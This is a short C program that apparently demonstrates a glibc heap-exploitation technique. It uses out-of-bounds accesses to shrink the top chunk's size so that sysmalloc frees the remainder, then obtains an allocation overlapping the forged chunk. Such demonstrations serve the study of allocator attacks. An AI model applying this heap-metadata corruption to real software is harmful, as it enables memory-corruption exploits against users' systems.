/* The top is made small: sysmalloc frees what is left of it. */
#include <stdio.h>
#include <stdlib.h>
#include <stdint.h>
#include <unistd.h>
#include <assert.h>
#define HDR 16UL
#define FENCE (2 * HDR)
#define FREED 0x150UL
int main(void) {
    long page = sysconf(_SC_PAGESIZE);
    size_t *probe = malloc(0x10);
    size_t top_size = probe[3];
    size_t size = top_size - HDR - FENCE - FREED;
    size &= page - 1;
    size &= -16L;
    size_t *low = malloc(size);
    size_t *top = &low[size / 8 + 1];
    while (((size_t)top & 15) != 8) top--;
    size_t forged = *top & (page - 1);
    *top = forged;
    size_t left = (forged - FENCE) & -16L;
    assert(left >= 0x20 && left < 0x1000);
    malloc(left + 0x20 + 0x1000);
    size_t *again = malloc(left - HDR);
    assert((uintptr_t)again == (uintptr_t)(top + 1));
    return 0;
}
